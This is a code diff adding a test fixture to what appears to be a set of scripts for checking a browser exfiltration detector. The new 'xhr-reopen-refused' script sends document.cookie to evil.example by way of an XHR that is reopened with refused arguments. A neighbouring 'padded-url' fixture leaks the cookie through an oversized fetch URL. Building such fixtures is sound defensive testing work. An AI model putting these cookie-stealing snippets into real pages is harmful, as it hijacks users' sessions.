@@ -560,6 +560,19 @@ export const MAIN_WORLD_SCRIPTS = {
   });
 })();`,
 
+  /**
+   * Opens an XHR to its collector, then calls open() again in ways the browser refuses (too few arguments, a
+   * forbidden method, a URL that does not parse): the request opened first still goes, with the cookie.
+   */
+  'xhr-reopen-refused': `(() => {
+  const xhr = new XMLHttpRequest();
+  xhr.open('POST', 'https://evil.example/xhr-reopened');
+  for (const args of [['GET'], ['CONNECT', '/'], ['GET', 'https://[']]) {
+    try { xhr.open(...args); } catch {}
+  }
+  xhr.send(document.cookie);
+})();`,
+
   /** Sends the cookie in a URL padded past 2 KB (longer than a finding's strings may be). */
   'padded-url': `fetch('https://evil.example/padded?c=' + encodeURIComponent(document.cookie) + '&pad=' + 'x'.repeat(4000), { mode: 'no-cors' }).catch(() => {});`,
 
